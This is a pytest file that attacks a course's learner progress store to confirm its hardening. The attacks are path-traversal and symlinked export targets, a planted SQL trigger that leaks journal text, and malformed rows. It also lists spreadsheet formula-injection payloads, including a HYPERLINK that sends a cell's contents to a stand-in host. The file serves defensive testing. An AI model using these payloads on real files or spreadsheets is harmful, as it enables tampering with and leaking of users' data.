"""Attacks on the learner's progress store (issue 12, items 6 and 7), each performed for real.

Every test here does what the security review found could lose, move or leak a learner's words:
a chart title that breaks the "after" self-check, exports aimed at the store, a newer or foreign
or read-only or linked store, rows that do not parse, half an emoji, spreadsheet formulas. Each
one failed before the store was hardened.
"""

from __future__ import annotations

import csv
import hashlib
import os
import sqlite3
import stat
from pathlib import Path

import pytest

from widgets.core.text import t
from widgets.core.values import VALUES
from widgets.store import (
    FILE_NAME,
    MemoryProgressStore,
    ProgressStore,
    StoreUnavailable,
    get_store,
    reset_store,
)
from widgets.store import notices as notice_keys
from widgets.ui.base import reset_notice

POSIX = os.name == "posix"
ALL_FOURS = dict.fromkeys(VALUES, 4)
HAS_SYMLINKS = hasattr(os, "symlink") and POSIX


@pytest.fixture(autouse=True)
def course_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    monkeypatch.setenv("PEER_COURSE_HOME", str(home))
    reset_store()
    reset_notice()
    yield home
    reset_store()
    reset_notice()


def said(store) -> str:
    return " ".join(t(n.key, **n.fields) for n in store.notices)


def keys(store) -> list[str]:
    return [n.key for n in store.notices]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def asides(path: Path) -> list[Path]:
    return sorted(path.parent.glob(path.name + ".corrupt-*"))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def real_store(path: Path, *answers: str) -> None:
    """A healthy store at ``path`` with some answers, a journal entry and a self-check."""
    store = ProgressStore(path)
    for answer in answers or ("my earlier answer",):
        store.record_attempt("ex", answer, ["question"])
    store.save_journal("reflect", "my earlier private note")
    store.record_selfcheck("before", ALL_FOURS)


def raw(path: Path, *statements: str) -> None:
    """Change the file directly, as another program (or an attacker) would."""
    con = sqlite3.connect(path)
    try:
        for statement in statements:
            con.execute(statement)
        con.commit()
    finally:
        con.close()


# --------------------------------------------------------------------------- 6a: chart maths


def dollar_words(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every word on the chart holds matplotlib maths that cannot be parsed ("$_$")."""
    from widgets.ui import charts

    real = charts.t
    monkeypatch.setattr(charts, "t", lambda key, **fields: "Costs $_$ " + real(key, **fields))


def test_after_selfcheck_is_saved_when_the_chart_words_hold_dollars(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from widgets.ui.self_check import SelfCheck

    store = ProgressStore()
    store.record_selfcheck("before", ALL_FOURS)
    dollar_words(monkeypatch)
    after = SelfCheck("after", store)
    after.sliders["curiosity"].value = 5
    after.on_save()  # raised ValueError from mathtext before the answer was saved
    assert store.selfchecks()["after"]["curiosity"] == 5
    assert "<img" in after.chart.value and "<table>" in after.chart.value
    assert t("selfcheck.saved_after") in after.status.value
    # Opening the box again with the saved "after" draws the same chart without raising.
    again = SelfCheck("after", store)
    assert "<img" in again.chart.value


def test_the_chart_draws_dollars_as_plain_text(monkeypatch: pytest.MonkeyPatch) -> None:
    from widgets.ui.charts import before_after_png

    dollar_words(monkeypatch)
    assert before_after_png(ALL_FOURS, dict.fromkeys(VALUES, 5)).startswith(b"\x89PNG")


# --------------------------------------------------------------------------- 6b: export targets


def aimed_at_the_store(how: str, store: ProgressStore, tmp_path: Path, monkeypatch) -> Path:
    """A path for export() that names the store (or one of its side files) in disguise."""
    folder = store.path.parent
    if how == "dotdot":  # from a subfolder, as the review found
        monkeypatch.chdir(folder / "exports")
        return Path("..") / FILE_NAME
    if how == "dotdot_absolute":
        return folder / "exports" / ".." / FILE_NAME
    if how == "symlink":
        link = tmp_path / "elsewhere.csv"
        link.symlink_to(store.path)
        return link
    if how == "symlinked_folder":
        alias = tmp_path / "alias"
        alias.symlink_to(folder, target_is_directory=True)
        return alias / FILE_NAME
    if how == "hard_link":
        other = tmp_path / "copy.csv"
        os.link(store.path, other)
        return other
    if how in ("-journal", "-wal", "-shm"):
        return folder / "exports" / ".." / (FILE_NAME + how)
    if how == "corrupt_copy":
        return folder / (FILE_NAME + ".corrupt-20200101T000000Z")
    raise AssertionError(how)


@pytest.mark.skipif(not HAS_SYMLINKS, reason="POSIX links")
@pytest.mark.parametrize(
    "how",
    [
        "dotdot",
        "dotdot_absolute",
        "symlink",
        "symlinked_folder",
        "hard_link",
        "-journal",
        "-wal",
        "-shm",
        "corrupt_copy",
    ],
)
def test_export_never_overwrites_the_store_or_its_side_files(
    how: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = ProgressStore()
    store.record_attempt("ex", "words I want to keep", [])
    (store.path.parent / "exports").mkdir(exist_ok=True)
    before = digest(store.path)
    target = aimed_at_the_store(how, store, tmp_path, monkeypatch)
    with pytest.raises(ValueError, match="different file"):
        store.export(target)
    assert digest(store.path) == before
    assert [a.response for a in store.attempts()] == ["words I want to keep"]
    assert keys(store) == []


def test_export_beside_the_store_still_works(tmp_path: Path, monkeypatch) -> None:
    store = ProgressStore()
    store.record_attempt("ex", "words", [])
    monkeypatch.chdir(store.path.parent)
    written = store.export("progress.csv")
    assert written.is_file() and read_csv(written)[0]["exercise_id"] == "ex"
    assert store.export(store.path.parent).parent == store.path.parent  # a dated name inside


# --------------------------------------------------------------------------- 6c: newer version


def make_newer(path: Path) -> None:
    real_store(path, "answer from the newer course")
    raw(path, "PRAGMA user_version = 99", "CREATE TABLE later_feature (x)")


def test_a_newer_store_is_kept_in_place_untouched_and_answers_stay_in_memory(
    course_home: Path,
) -> None:
    path = course_home / FILE_NAME
    make_newer(path)
    before = digest(path)
    journal = path.with_name(FILE_NAME + "-journal")  # the newer course's, mid-write perhaps
    journal.write_bytes(b"the newer course's journal")

    store = ProgressStore()
    assert keys(store) == ["notice.newer_version_kept"]
    assert str(path) in said(store) and "untouched" in said(store)
    assert store.reassure_key == "notice.reassure_storage"
    assert store.storage == "memory"
    assert asides(path) == [] and digest(path) == before  # not renamed, not changed

    store.record_attempt("ex", "today's answer", [])
    store.save_journal("reflect", "today's note")
    store.record_selfcheck("after", ALL_FOURS)
    assert [a.response for a in store.attempts()] == ["today's answer"]
    assert [e.text for e in store.journal()] == ["today's note"]
    assert store.selfchecks() == {"after": ALL_FOURS}
    assert digest(path) == before

    store.erase()  # the learner's own answers go; the newer course's file is not ours to delete
    assert path.is_file() and digest(path) == before
    assert journal.read_bytes() == b"the newer course's journal"
    assert store.attempts() == [] and keys(store) == ["notice.newer_version_kept"]
    assert keys(ProgressStore()) == ["notice.newer_version_kept"]  # still kept, still said


def test_a_store_upgraded_by_a_newer_course_during_the_session(course_home: Path) -> None:
    store = ProgressStore()
    store.record_attempt("ex", "before the upgrade", [])
    raw(store.path, "PRAGMA user_version = 99")  # the newer course, in another notebook
    before = digest(store.path)
    store.record_attempt("ex", "after the upgrade", [])  # must not raise, must not move it
    assert [a.response for a in store.attempts()] == ["after the upgrade"]
    assert keys(store) == ["notice.newer_version_kept"]
    assert asides(store.path) == [] and digest(store.path) == before


def test_erase_keeps_a_newer_store_an_older_course_moved_aside(course_home: Path) -> None:
    """Older versions of the course renamed a newer store to .corrupt-...; erase() keeps it."""
    path = course_home / FILE_NAME
    make_newer(path)
    old_aside = path.with_name(FILE_NAME + ".corrupt-20240101T000000Z")
    os.rename(path, old_aside)
    damaged = path.with_name(FILE_NAME + ".corrupt-20240102T000000Z")
    damaged.write_bytes(b"a damaged copy of our own store")
    before = digest(old_aside)
    store = ProgressStore()
    store.record_attempt("ex", "x", [])
    store.erase()
    assert digest(old_aside) == before and not damaged.exists() and not path.exists()


# --------------------------------------------------------------------------- 6d: read-only


def pretend_read_only(monkeypatch: pytest.MonkeyPatch, path: Path, *, folder: bool) -> None:
    """As if the file (or its folder) were read-only: tests may run as root, who may write all."""
    real = os.access
    target = path.parent if folder else path

    def access(p, mode, *args, **kwargs):
        if Path(p) == target and mode & os.W_OK:
            return False
        return real(p, mode, *args, **kwargs)

    monkeypatch.setattr(os, "access", access)


@pytest.mark.parametrize("folder", [False, True], ids=["file", "folder"])
def test_a_read_only_store_is_shown_not_moved_and_saves_say_why(
    course_home: Path, monkeypatch: pytest.MonkeyPatch, folder: bool
) -> None:
    path = course_home / FILE_NAME
    real_store(path, "an answer I made earlier")
    before = digest(path)
    pretend_read_only(monkeypatch, path, folder=folder)

    store = ProgressStore()
    assert keys(store) == ["notice.read_only"]
    assert str(path) in said(store) and "can't be saved there yet" in said(store)
    assert store.reassure_key == "notice.reassure_storage"
    assert asides(path) == [] and digest(path) == before
    con = store._connect(write=False)  # really opened read-only, even for root
    try:
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            con.execute("DELETE FROM attempts")
    finally:
        con.close()
    assert [a.response for a in store.attempts()] == ["an answer I made earlier"]
    assert [e.text for e in store.journal()] == ["my earlier private note"]
    assert store.selfchecks() == {"before": ALL_FOURS}
    assert store.completed() == {"ex"}
    assert read_csv(store.export(course_home.parent / "out.csv"))[0]["exercise_id"] == "ex"

    with pytest.raises(StoreUnavailable) as raised:
        store.record_attempt("ex", "a new answer", [])
    assert raised.value.notice == store.notices[0] and str(raised.value) == said(store)
    with pytest.raises(StoreUnavailable) as refused:
        store.erase()
    assert refused.value.notice.key == "notice.read_only_erase"
    assert "nothing has been erased" in str(refused.value)
    assert asides(path) == [] and digest(path) == before


@pytest.mark.skipif(not POSIX or os.geteuid() == 0, reason="root may write read-only files")
def test_a_really_read_only_store(course_home: Path) -> None:
    path = course_home / FILE_NAME
    real_store(path)
    os.chmod(path, 0o400)
    store = ProgressStore()
    assert keys(store) == ["notice.read_only"] and asides(path) == []
    assert len(store.attempts()) == 1
    assert stat.S_IMODE(path.stat().st_mode) == 0o400


# --------------------------------------------------------------------------- 6e: links


@pytest.mark.skipif(not HAS_SYMLINKS, reason="POSIX links")
@pytest.mark.parametrize("target_kind", ["store", "other_file"])
def test_a_linked_store_is_not_followed_chmodded_or_moved(
    course_home: Path, tmp_path: Path, target_kind: str
) -> None:
    shared = tmp_path / "someone-else"
    shared.mkdir()
    target = shared / ("their.sqlite3" if target_kind == "store" else "notes.txt")
    if target_kind == "store":
        real_store(target, "their answer")
    else:
        target.write_text("someone else's notes")
    os.chmod(target, 0o644)
    before = digest(target)
    course_home.mkdir()
    link = course_home / FILE_NAME
    link.symlink_to(target)

    store = ProgressStore()
    assert stat.S_IMODE(target.stat().st_mode) == 0o644  # chmod did not follow the link
    assert keys(store) == ["notice.link_kept"] and str(link) in said(store)
    assert link.is_symlink() and asides(link) == []
    store.record_attempt("ex", "mine", [])
    assert [a.response for a in store.attempts()] == ["mine"]
    store.erase()
    assert link.is_symlink() and digest(target) == before
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


@pytest.mark.skipif(not HAS_SYMLINKS, reason="POSIX links")
def test_a_linked_journal_beside_the_store_is_not_written_through(
    course_home: Path, tmp_path: Path
) -> None:
    real_store(course_home / FILE_NAME)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (course_home / (FILE_NAME + "-journal")).symlink_to(victim)
    store = ProgressStore()
    store.record_attempt("ex", "mine", [])
    assert victim.read_text() == "keep me"
    assert keys(store) == ["notice.link_kept"]


# --------------------------------------------------------------------------- 6f: foreign objects

COPY_JOURNAL = (
    "CREATE TRIGGER leak AFTER INSERT ON journal BEGIN "
    "INSERT INTO attempts (exercise_id, value, response, labels, skipped, created_at) "
    "VALUES (NEW.text, NULL, '', '[]', 0, NEW.created_at); END"
)


@pytest.mark.parametrize(
    "extra",
    [
        COPY_JOURNAL,
        "CREATE VIEW everything AS SELECT text FROM journal",
        "CREATE TABLE notes (x)",
        "CREATE INDEX journal_text ON journal (text)",
    ],
    ids=["trigger", "view", "table", "index"],
)
def test_a_store_with_objects_we_did_not_make_is_kept_and_not_used(
    course_home: Path, tmp_path: Path, extra: str
) -> None:
    path = course_home / FILE_NAME
    real_store(path)
    raw(path, extra)
    before = digest(path)

    store = ProgressStore()
    store.save_journal("reflect", "my private words")
    anonymous = store.export(tmp_path / "anon.csv")
    assert "my private words" not in anonymous.read_text(encoding="utf-8-sig")
    assert keys(store) == ["notice.not_ours_kept"] and str(path) in said(store)
    assert store.reassure_key == "notice.reassure_storage"
    assert asides(path) == [] and digest(path) == before
    assert [e.text for e in store.journal()] == ["my private words"]
    store.erase()
    assert digest(path) == before


def test_the_store_we_make_has_only_our_own_objects(course_home: Path) -> None:
    real_store(course_home / FILE_NAME)
    assert keys(ProgressStore()) == []


# --------------------------------------------------------------------------- 6g: bad rows

BAD_ROWS = (
    # attempts: labels that are not JSON, not a list, not text; a response, a time and an id
    # that are bytes, not text; a value the course does not have; text that is not UTF-8.
    "INSERT INTO attempts (exercise_id, value, response, labels, skipped, created_at) VALUES"
    " ('ex', NULL, 'bad json', 'not json', 0, '2024-01-01'),"
    " ('ex', NULL, 'not a list', '5', 0, '2024-01-01'),"
    " ('ex', NULL, 'number label', '[1]', 0, '2024-01-01'),"
    " ('ex', NULL, x'3432', '[]', 0, '2024-01-01'),"
    " ('ex', 'kindness', 'unknown value', '[]', 0, '2024-01-01'),"
    " ('ex', NULL, 'time as bytes', '[]', 0, x'00'),"
    " (x'00ff', NULL, 'id as bytes', '[]', 0, '2024-01-01'),"
    " ('ex', NULL, CAST(x'ff' AS TEXT), '[]', 0, '2024-01-01')",
    "INSERT INTO journal (prompt_id, text, created_at) VALUES"
    " ('reflect', x'00ff', '2024-01-01'),"
    " ('reflect', CAST(x'c3' AS TEXT), '2024-01-01'),"
    " (x'37', 'prompt as bytes', '2024-01-01')",
    # the latest "after" self-checks are broken; an earlier good one is shown instead
    "INSERT INTO selfchecks (phase, ratings, created_at) VALUES"
    " ('after', '{\"curiosity\": 3}', '2024-01-01'),"
    " ('after', 'nope', '2024-01-02'),"
    " ('after', '[1, 2]', '2024-01-03'),"
    " ('after', '{\"curiosity\": \"5\"}', '2024-01-04'),"
    " ('after', '{\"curiosity\": 9}', '2024-01-05'),"
    " ('after', '{\"unknown\": 3}', '2024-01-06')",
)


def test_rows_that_do_not_parse_are_skipped_with_a_notice(
    course_home: Path, tmp_path: Path
) -> None:
    path = course_home / FILE_NAME
    real_store(path, "a good answer")
    raw(path, *BAD_ROWS)
    store = ProgressStore()
    assert [a.response for a in store.attempts()] == ["a good answer"]
    assert [a.response for a in store.attempts("ex")] == ["a good answer"]
    assert [e.text for e in store.journal()] == ["my earlier private note"]
    assert store.selfchecks() == {"before": ALL_FOURS, "after": {"curiosity": 3}}
    assert store.completed() == {"ex"}
    full = read_csv(store.export(tmp_path / "full.csv", anonymous=False))
    assert [r["response"] for r in full if r["record_type"] == "attempt"] == ["a good answer"]
    [notice] = store.notices
    assert notice.key == "notice.rows_skipped" and notice.fields == {"n": "16"}
    assert "16" in said(store) and "nothing has been changed or deleted" in said(store)
    assert store.reassure_key == "notice.reassure_storage"  # no fresh file was started


def test_views_open_over_rows_that_do_not_parse(course_home: Path) -> None:
    from widgets import exercises

    real_store(course_home / FILE_NAME, "a good answer")
    raw(course_home / FILE_NAME, *BAD_ROWS)
    for box in (
        exercises.progress_view(),
        exercises.self_check("after"),
        exercises.personal_summary(),
    ):
        assert box is not None
    assert keys(get_store()) == ["notice.rows_skipped"]


def test_rows_of_the_wrong_type_in_untyped_columns_are_skipped(course_home: Path) -> None:
    """Columns declared without a type keep numbers as numbers: a response may be 42."""
    course_home.mkdir()
    path = course_home / FILE_NAME
    raw(
        path,
        "CREATE TABLE meta (key PRIMARY KEY, value)",
        "CREATE TABLE attempts (id INTEGER PRIMARY KEY, exercise_id, value, response, labels,"
        " skipped, created_at)",
        "CREATE TABLE journal (id INTEGER PRIMARY KEY, prompt_id, text, created_at)",
        "CREATE TABLE selfchecks (id INTEGER PRIMARY KEY, phase, ratings, created_at)",
        "PRAGMA user_version = 1",
        "INSERT INTO attempts VALUES (1, 'ex', NULL, 42, '[]', 0, 't'),"
        " (2, 'ex', NULL, 'ok', '[]', 5, 't'), (3, 'ex', NULL, 'ok', '[]', 0, 1.5),"
        " (4, 'ex', NULL, 'fine', '[]', 1, 't')",
        "INSERT INTO journal VALUES (1, 'p', 3.25, 't'), (2, 'p', 'fine', 't')",
        "INSERT INTO attempts VALUES (5, 'ex', NULL, 'deep', '"
        + "[" * 100_000
        + "]" * 100_000
        + "', 0, 't')",
        "INSERT INTO selfchecks VALUES (1, 'during', '{\"curiosity\": 3}', 't')",
    )
    store = ProgressStore()
    assert [(a.response, a.skipped) for a in store.attempts()] == [("fine", True)]
    assert [e.text for e in store.journal()] == ["fine"] and store.selfchecks() == {}
    assert store.notices[0].fields == {"n": "6"}


# --------------------------------------------------------------------------- 6h: half an emoji

HALF = "I feel \ud83d"


@pytest.mark.parametrize("kind", ["file", "memory"])
def test_half_an_emoji_is_saved_as_a_replacement_character(kind: str, course_home: Path) -> None:
    store = ProgressStore() if kind == "file" else MemoryProgressStore()
    store.record_attempt("ex\udc00", HALF, ["question\ud800"])
    store.save_journal("reflect\udfff", HALF + " and a whole one \ud83d\ude00")
    [attempt] = store.attempts()
    assert attempt.response == "I feel \ufffd"
    assert attempt.exercise_id == "ex\ufffd" and attempt.labels == ("question\ufffd",)
    [entry] = store.journal()
    assert entry.prompt_id == "reflect\ufffd"
    assert entry.text == "I feel \ufffd and a whole one \U0001f600"
    full = store.export(course_home.parent / f"{kind}.csv", anonymous=False)
    assert read_csv(full)[0]["response"] == "I feel \ufffd"


# --------------------------------------------------------------------------- 7: formulas

FORMULAS = [
    '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets also read as a formula
]


@pytest.mark.parametrize("kind", ["file", "memory"])
def test_exports_neutralise_spreadsheet_formulas(kind: str, tmp_path: Path) -> None:
    store = ProgressStore() if kind == "file" else MemoryProgressStore()
    for formula in FORMULAS:
        store.record_attempt("=ex", formula, ["=label", "question"])
    store.record_attempt("plain", "I hear you - and a-b = c", [])
    rows = read_csv(store.export(tmp_path / f"{kind}.csv", anonymous=False))
    responses = [r["response"] for r in rows]
    assert responses == ["'" + f for f in FORMULAS] + ["I hear you - and a-b = c"]
    assert rows[0]["exercise_id"] == "'=ex" and rows[0]["labels"] == "'=label;question"
    anonymous = read_csv(store.export(tmp_path / f"{kind}-anon.csv"))
    assert anonymous[0]["labels"] == "'=label;question" and anonymous[0]["response"] == ""
    for row in rows + anonymous:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r\uff1d", row


def test_notice_keys_have_words() -> None:
    fields = {"path": "/p", "env": "PEER_COURSE_HOME", "n": "3", "aside": "/a", "error": "e"}
    for name in ("NEWER_KEPT", "LINK_KEPT", "NOT_OURS_KEPT", "READ_ONLY", "READ_ONLY_ERASE"):
        key = getattr(notice_keys, name)
        words = t(key, **fields)
        assert words and "/p" in words, key
    assert "3" in t(notice_keys.ROWS_SKIPPED, **fields)
